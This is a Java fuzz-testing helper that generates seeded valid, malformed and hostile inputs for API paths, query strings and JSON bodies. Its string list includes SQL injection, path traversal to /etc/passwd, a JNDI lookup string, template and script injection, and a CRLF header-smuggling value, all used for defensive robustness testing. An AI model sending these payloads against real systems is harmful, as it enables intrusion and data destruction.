package org.minqing.rights;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.UUID;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.jspecify.annotations.Nullable;
import org.minqing.kernel.UuidV7;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/** Values for parameters and bodies: some of the right shape, some of a wrong one, some made to do harm. From a seed. */
final class Rubbish {

    private static final JsonMapper JSON = new JsonMapper();

    private static final List<String> TEXTS = List.of(
            "",
            " ",
            "\u0000",
            "a\u0000b",
            "'; drop table casework.case_file; --",
            "\" or 1=1 --",
            "%' union select null--",
            "{[1,2]}",
            "../../etc/passwd",
            "..%2f..%2f",
            "%00",
            "%zz",
            "${jndi:ldap://example.invalid/a}",
            "#{1+1} {{7*7}}",
            "<script>alert(1)</script>",
            "\u202e\u2028\ufeff",
            "😀".repeat(300),
            "示".repeat(5_000),
            "-1",
            "0",
            "2147483648",
            "-9223372036854775809",
            "9".repeat(120),
            "1e400",
            "NaN",
            "null",
            "true",
            "0000-00-00",
            "+999999999-12-31T23:59:59Z",
            "-999999999-01-01T00:00:00Z",
            "2026-02-30",
            "00000000-0000-0000-0000-000000000000",
            "441521110220001",
            "999999999999999",
            "a\r\nSet-Cookie: x=y");

    private final Random random;
    private final List<String> known;

    /** @param known ids and codes of things that are there */
    Rubbish(long seed, List<String> known) {
        this.random = new Random(seed);
        this.known = known;
    }

    /** The address with something in place of each name, and a question with some of its parameters. */
    String path(Contract.Operation operation) {
        var path = operation.path();
        for (var parameter : operation.parameters()) {
            if (parameter.in().equals("path")) {
                path = path.replace("{" + parameter.name() + "}", encoded(random.nextInt(3) > 0 ? id() : text()));
            }
        }
        var question = operation.parameters().stream()
                .filter(parameter -> parameter.in().equals("query") && random.nextInt(2) == 0)
                .map(parameter -> parameter.name() + "=" + encoded(plain(parameter.schema())))
                .collect(Collectors.joining("&"));
        return question.isEmpty() ? path : path + "?" + question;
    }

    /** A body of the shape, or nearly, or not at all. */
    String body(Contract contract, JsonNode schema) {
        return switch (random.nextInt(12)) {
            case 0 -> text();
            case 1 -> "[".repeat(200) + "]".repeat(200);
            case 2 -> JSON.writeValueAsString(text());
            default -> JSON.writeValueAsString(value(contract, schema, 0));
        };
    }

    private String plain(JsonNode schema) {
        return random.nextInt(2) == 0 ? text() : String.valueOf(right(schema));
    }

    private String text() {
        return TEXTS.get(random.nextInt(TEXTS.size()));
    }

    private String id() {
        return random.nextInt(4) == 0
                ? UuidV7.at(Instant.EPOCH, random).toString()
                : known.get(random.nextInt(known.size()));
    }

    private static String encoded(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
    }

    private @Nullable Object value(Contract contract, JsonNode unresolved, int depth) {
        var schema = contract.resolved(unresolved);
        if (random.nextInt(5) == 0 || depth > 5) {
            return wrong();
        }
        if (schema.has("properties")) {
            var made = new LinkedHashMap<String, @Nullable Object>();
            schema.path("properties")
                    .propertyStream()
                    .filter(_ -> random.nextInt(6) > 0)
                    .forEach(part -> made.put(part.getKey(), value(contract, part.getValue(), depth + 1)));
            return made;
        }
        if (schema.has("items")) {
            return IntStream.range(0, random.nextInt(4))
                    .mapToObj(_ -> value(contract, schema.path("items"), depth + 1))
                    .toList();
        }
        return right(schema);
    }

    private Object right(JsonNode schema) {
        if (schema.has("enum")) {
            return schema.at("/enum/0").asString();
        }
        return switch (schema.path("format").asString(schema.path("type").asString(""))) {
            case "uuid" -> random.nextBoolean() ? id() : UUID.randomUUID().toString();
            case "date" -> "2026-11-28";
            case "date-time" -> "2026-11-28T04:00:00Z";
            case "int32", "integer" ->
                List.of(0, 1, -1, 7, Integer.MAX_VALUE, Integer.MIN_VALUE).get(random.nextInt(6));
            case "int64" -> List.of(441521110220001L, -1L, Long.MAX_VALUE, 0L).get(random.nextInt(4));
            case "number", "double", "float" ->
                List.of(0.5, -1e300, 115.3, Double.MIN_VALUE).get(random.nextInt(4));
            case "boolean" -> random.nextBoolean();
            case "object" -> Map.of("description", text(), "kind", text());
            default -> random.nextBoolean() ? word() : text();
        };
    }

    /** Words that get past the first door. */
    private String word() {
        var words = List.of(
                "general-event",
                "dispute",
                "accept",
                "receive",
                "answer",
                "withdraw",
                "days",
                "hours",
                "town",
                "state",
                "done",
                "WGS84",
                "overdue",
                "urban",
                "示例");
        return words.get(random.nextInt(words.size()));
    }

    private @Nullable Object wrong() {
        return switch (random.nextInt(8)) {
            case 0 -> null;
            case 1 -> List.of();
            case 2 -> List.of(List.of(text()), 1, "x");
            case 3 -> Map.of(text() + "k", text());
            case 4 -> Long.MIN_VALUE;
            case 5 -> 1e308;
            case 6 -> true;
            default -> text();
        };
    }
}
